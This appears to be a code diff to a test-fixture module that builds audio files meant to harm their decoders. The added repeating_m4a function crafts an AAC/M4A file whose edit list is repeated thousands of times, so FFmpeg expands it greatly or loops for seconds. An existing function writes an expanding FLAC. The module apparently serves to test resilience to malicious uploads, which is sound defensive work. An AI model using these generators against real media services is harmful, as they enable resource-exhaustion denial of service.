@@ -1,7 +1,10 @@
 """Audio files made to harm what decodes them."""
 
+import io
+import struct
 from pathlib import Path
 
+import av
 import numpy as np
 import soundfile
 
@@ -12,3 +15,44 @@ def expanding_flac(file: Path) -> Path:
     samples[::1_000_000] = 20_000
     soundfile.write(file, samples, 22_050)
     return file
+
+
+def repeating_m4a(file: Path, edits: int) -> Path:
+    """Write 0.1 s of AAC whose edit list plays it `edits` times.
+
+    FFmpeg repeats the sample table for every edit: a list of 1,000 expands the file a thousand times, and a list of
+    20,000 keeps FFmpeg in a loop for many seconds, in a file of 240 kB.
+    """
+    tone = (np.sin(np.arange(4_410) * 0.05) * 8_000).astype(np.int16)
+    content = io.BytesIO()
+    with av.open(content, "w", format="ipod") as container:
+        stream = container.add_stream("aac", rate=44_100, layout="mono")
+        frame = av.AudioFrame.from_ndarray(tone[np.newaxis], format="s16", layout="mono")
+        frame.sample_rate = 44_100
+        container.mux(stream.encode(frame))
+        container.mux(stream.encode(None))
+    edit_list = _box(b"elst", struct.pack(">II", 0, edits) + struct.pack(">IiI", 100, 0, 1 << 16) * edits)
+
+    def edited(kind: bytes, content: bytes) -> bytes:
+        if kind not in {b"moov", b"trak"}:
+            return _box(kind, content)
+        boxes = [box for box in _boxes(content) if box[0] != b"edts"]
+        inside = b"".join(edited(*box) + (_box(b"edts", edit_list) if box[0] == b"tkhd" else b"") for box in boxes)
+        return _box(kind, inside)
+
+    boxes = sorted(_boxes(content.getvalue()), key=lambda box: box[0] == b"moov")  # offsets into the audio stay
+    file.write_bytes(b"".join(edited(*box) for box in boxes))
+    return file
+
+
+def _box(kind: bytes, content: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(content)) + kind + content
+
+
+def _boxes(content: bytes) -> list[tuple[bytes, bytes]]:
+    boxes, start = [], 0
+    while start < len(content):
+        size, kind = struct.unpack_from(">I4s", content, start)
+        boxes.append((kind, content[start + 8 : start + size]))
+        start += size
+    return boxes
